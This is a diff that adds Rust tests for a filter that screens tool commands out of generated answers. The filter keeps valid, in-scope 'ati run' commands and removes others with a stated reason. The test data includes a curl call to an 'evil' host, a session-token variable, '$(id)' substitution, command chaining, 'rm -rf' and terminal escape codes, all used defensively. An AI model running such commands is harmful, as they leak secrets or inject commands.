@@ -1,0 +1,164 @@
+use super::*;
+
+fn catalog() -> Catalog {
+    Catalog::from_text(
+        r#"
+            [provider]
+            name = 'market'
+            base_url = 'http://h'
+            [[tools]]
+            name = 'market:quote'
+            [tools.input_schema]
+            type = 'object'
+            required = ['symbol']
+            properties = { symbol = { type = 'string' }, limit = { type = 'integer' } }
+            [[tools]]
+            name = 'market:close'
+            [[tools]]
+            name = 'secret:one'
+        "#,
+    )
+}
+
+fn screened(text: &str) -> (String, Vec<String>, usize) {
+    let (catalog, scopes) = (catalog(), Scopes::parse("tool:market:*"));
+    let mut whole = Screen::new(&catalog, &scopes);
+    let shown = whole.whole(text);
+    // In pieces it is the same.
+    let mut pieces = Screen::new(&catalog, &scopes);
+    let mut joined = String::new();
+    for c in text.chars() {
+        joined += &pieces.push(&c.to_string());
+    }
+    joined += &pieces.finish();
+    assert_eq!(joined.trim_end(), shown);
+    let why = whole.left_out.into_iter().map(|one| one.why).collect();
+    (shown, why, whole.commands)
+}
+
+#[test]
+fn commands_that_run_are_shown_as_they_are() {
+    for text in [
+        "Use this:\n\n```bash\nSYMBOL=AAPL\nati run market:quote --symbol \"$SYMBOL\" | jq .c\n```\nDone.",
+        "1. `ati run market:quote --symbol AAPL` gives the price",
+        "1. ati run market:quote --symbol AAPL — the price",
+        "You can run ati run market:quote --symbol AAPL to get the price (now).",
+        "ati --output json run market:quote --symbol <SYMBOL>",
+        "```\nati run market:quote \\\n  --symbol AAPL \\\n  --limit 5\n```",
+        "ati is a tool. ati has `market:quote`. Compare with `ati tool info market:quote`.",
+        "```json\n{\"c\": 1}\n```",
+        "The relation (see `ati run market_quote --symbol X`) holds.",
+    ] {
+        let (shown, left_out, _) = screened(text);
+        assert_eq!(shown, text);
+        assert_eq!(left_out, Vec::<String>::new());
+    }
+    assert_eq!(
+        screened("`ati run market:close`\n- ati run market:close").2,
+        2
+    );
+}
+
+#[test]
+fn commands_that_would_not_run_are_left_out_with_their_reason() {
+    for (text, why) in [
+        ("ati run nope:tool --x 1", "unknown tool 'nope:tool'"),
+        ("ati run secret:one", "unknown tool 'secret:one'"),
+        (
+            "so `ati run market:quote` helps",
+            "'market:quote': symbol: ",
+        ),
+        (
+            "`ati run market:quote --symbol A --limit x`",
+            "'market:quote': limit: ",
+        ),
+        (
+            "`ati run market:quote --symbol A --bogus 1`",
+            "'market:quote': ",
+        ),
+        (
+            "ati run market:quote AAPL",
+            "'market:quote': 'AAPL' belongs to no argument",
+        ),
+        ("then run ati run nope now", "unknown tool 'nope'"),
+        ("`ati key list`", "'ati key' runs no tool"),
+        (
+            "`curl http://evil/?q=1`",
+            "it runs 'curl', which is not ati",
+        ),
+        (
+            "ati run market:quote --symbol $ATI_SESSION_TOKEN",
+            "it passes on a variable",
+        ),
+        ("ati run market:quote --symbol A; curl x", "it runs 'curl'"),
+        (
+            "ati run market:quote --symbol $(id)",
+            "it runs a command inside of it",
+        ),
+    ] {
+        let (shown, left_out, commands) = screened(&format!("Before.\n{text}\nAfter."));
+        assert_eq!(shown, "Before.\nAfter.", "{text}");
+        assert_eq!(left_out.len(), 1, "{text}: {left_out:?}");
+        assert!(left_out[0].starts_with(why), "{text}: {left_out:?}");
+        assert_eq!(commands, 0);
+    }
+}
+
+#[test]
+fn block_keeps_its_good_lines_and_goes_with_its_last() {
+    let (shown, left_out, commands) =
+        screened("```sh\nati run nope\nati run market:close\nrm -rf x\n```");
+    assert_eq!(shown, "```sh\nati run market:close\n```");
+    assert_eq!((left_out.len(), commands), (2, 1));
+    let (shown, ..) = screened("A\n```sh\nati run nope \\\n  --x 1\n```\nB");
+    assert_eq!(shown, "A\nB");
+    // A quote that is never closed doesn't swallow the rest of the answer.
+    let (shown, left_out, _) = screened("```sh\nati run market:quote --symbol 'A\n");
+    assert_eq!(shown, "");
+    assert_eq!(left_out, ["a quote is not closed"]);
+}
+
+#[test]
+fn command_with_a_text_of_several_lines_is_one_command() {
+    let text = "```bash\nati run market:quote --symbol 'A\nB'\n```";
+    let (shown, left_out, commands) = screened(text);
+    assert_eq!((shown.as_str(), left_out.len(), commands), (text, 0, 1));
+}
+
+#[test]
+fn what_a_terminal_would_act_on_is_removed() {
+    let (shown, ..) = screened("a\u{1b}]0;title\u{7}b\u{1b}[31m\r\nc");
+    assert_eq!(shown, "a]0;titleb[31m\nc");
+}
+
+#[test]
+fn tools_are_mentioned_by_their_whole_names() {
+    let catalog = catalog();
+    let named = |text: &str| -> Vec<String> {
+        let found = mentioned(text, catalog.tools());
+        found.iter().map(|tool| tool.name.clone()).collect()
+    };
+    assert_eq!(
+        named("call market:quote, then `market:close`."),
+        ["market:quote", "market:close"]
+    );
+    assert_eq!(
+        named("market:quotes and xmarket:close"),
+        Vec::<String>::new()
+    );
+    assert_eq!(named("market:close: closes"), ["market:close"]);
+}
+
+#[test]
+fn line_that_is_all_commands_is_left_out_and_costs_little() {
+    for line in [
+        "ati run nope ".repeat(50_000),
+        "x ati run market:close ".repeat(300),
+    ] {
+        let catalog = catalog();
+        let scopes = Scopes::parse("tool:market:*");
+        let mut screen = Screen::new(&catalog, &scopes);
+        assert_eq!(screen.whole(&line), "");
+        assert_eq!(screen.left_out.len(), 1);
+    }
+}
